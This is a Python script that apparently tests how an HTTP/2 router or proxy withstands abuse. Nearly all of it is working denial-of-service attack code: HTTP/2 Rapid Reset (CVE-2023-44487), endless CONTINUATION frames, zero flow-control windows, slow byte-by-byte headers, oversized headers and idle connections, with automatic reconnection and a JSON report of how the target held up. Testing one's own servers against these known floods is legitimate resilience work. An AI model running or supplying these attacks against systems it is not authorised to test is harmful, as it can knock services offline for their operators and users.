#!/usr/bin/python3
"""HTTP/2 put to bad use, against a router's client port. Needs Debian's python3-h2 (its hyperframe and hpack).

usage: abuse.py KIND HOST:PORT [SECONDS [CONNECTIONS]]

KIND is one of
  rapid-reset    calls that are cancelled as soon as they are made (CVE-2023-44487)
  continuation   headers that never end (VU#421644)
  zero-window    calls whose answers are never taken
  slow-headers   a byte of a call's headers each half second
  big-headers    calls with headers of 64 KiB
  idle           connections that say nothing
  settled        connections that say HTTP/2 and then nothing

Each connection that is cut off is made again. Prints one JSON object: how many connections were made, how many of them were cut
off by the router or never accepted, how long the first ones lived, and what was sent.
"""
import json
import os
import selectors
import socket
import sys
import time

import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AGAIN_SECONDS = 0.05


def settings(**values):
    frame = SettingsFrame(0)
    frame.settings = values.get("settings", {})
    return frame.serialize()


def acknowledged():
    frame = SettingsFrame(0)
    frame.flags.add("ACK")
    return frame.serialize()


def header_block(encoder, more=()):
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/grpc.health.v1.Health/Check"),
            (":authority", "abuse"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]
    )


class Attack:
    """One connection. next() gives bytes to send, or nothing if it waits."""

    def __init__(self, kind):
        self.kind = kind
        self.encoder = hpack.Encoder()
        self.stream = 1
        self.sent_preface = False
        self.block = b""
        self.not_before = 0.0
        self.calls = 0

    def next(self, now):
        if self.kind == "idle" or now < self.not_before:
            return b""
        if not self.sent_preface:
            self.sent_preface = True
            window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if self.kind == "zero-window" else {}
            return PREFACE + settings(settings=window) + acknowledged()
        return getattr(self, self.kind.replace("-", "_"))(now)

    def headers(self, ended, block):
        frame = HeadersFrame(self.stream)
        frame.data = block
        if ended:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def rapid_reset(self, now):
        out = b""
        for _ in range(50):
            out += self.headers(True, header_block(self.encoder))
            out += RstStreamFrame(self.stream, error_code=8).serialize()
            self.stream += 2
            self.calls += 1
        return out

    def continuation(self, now):
        if not self.calls:
            self.calls = 1
            return self.headers(False, header_block(self.encoder))
        frame = ContinuationFrame(self.stream)
        # Literal fields without indexing: legal, and of no end.
        frame.data = b"".join(b"\x00\x04x-%02d\x40" % (i % 100) + b"y" * 64 for i in range(20))
        return frame.serialize()

    def zero_window(self, now):
        if self.calls >= 200:
            return b""
        out = self.headers(True, header_block(self.encoder))
        # An empty message, and the end of the call.
        out += b"\x00\x00\x05\x00\x01" + self.stream.to_bytes(4, "big") + b"\x00\x00\x00\x00\x00"
        self.stream += 2
        self.calls += 1
        return out

    def slow_headers(self, now):
        if not self.block:
            self.block = self.headers(True, header_block(self.encoder))
        self.not_before = now + 0.5
        out, self.block = self.block[:1], self.block[1:]
        return out

    def big_headers(self, now):
        block = header_block(self.encoder, [("x-%d" % i, os.urandom(24).hex()) for i in range(1200)])
        out = self.headers(False, block[:16000])
        rest = block[16000:]
        while rest:
            frame = ContinuationFrame(self.stream)
            frame.data, rest = rest[:16000], rest[16000:]
            if not rest:
                frame.flags.add("END_HEADERS")
            out += frame.serialize()
        self.stream += 2
        self.calls += 1
        self.not_before = now + 0.02
        return out

    def settled(self, now):
        self.not_before = now + 3600
        return b""


def main():
    kind, target = sys.argv[1], sys.argv[2]
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 10
    wanted = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    host, port = target.rsplit(":", 1)
    selector = selectors.DefaultSelector()
    made = cut = calls = sent = 0
    lived = []
    end = time.monotonic() + seconds
    open_now = 0
    not_before = 0.0

    def connect():
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, int(port)))
        attack = Attack(kind)
        selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, (attack, time.monotonic(), bytearray()))

    while time.monotonic() < end:
        now = time.monotonic()
        if open_now < wanted and now >= not_before:
            for _ in range(min(50, wanted - open_now)):
                connect()
                made += 1
                open_now += 1
            not_before = now + AGAIN_SECONDS
        for key, events in selector.select(0.01):
            attack, born, waiting = key.data
            s = key.fileobj
            try:
                if events & selectors.EVENT_READ:
                    if not s.recv(65536):
                        raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    if not waiting:
                        waiting += attack.next(now)
                    if waiting:
                        n = s.send(waiting)
                        sent += n
                        del waiting[:n]
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(s)
                s.close()
                cut += 1
                calls += attack.calls
                open_now -= 1
                if len(lived) < 1000:
                    lived.append(time.monotonic() - born)
        if kind in ("idle", "settled", "slow-headers", "zero-window"):
            # Writable all the time, and nothing to write.
            time.sleep(0.05)
    calls += sum(key.data[0].calls for key in selector.get_map().values())
    lived.sort()
    print(
        json.dumps(
            {
                "kind": kind,
                "seconds": seconds,
                "connections_made": made,
                "cut_off": cut,
                "open_at_the_end": open_now,
                "median_life_s": round(lived[len(lived) // 2], 3) if lived else None,
                "longest_life_s": round(lived[-1], 3) if lived else None,
                "calls": calls,
                "bytes_sent": sent,
            }
        )
    )


main()
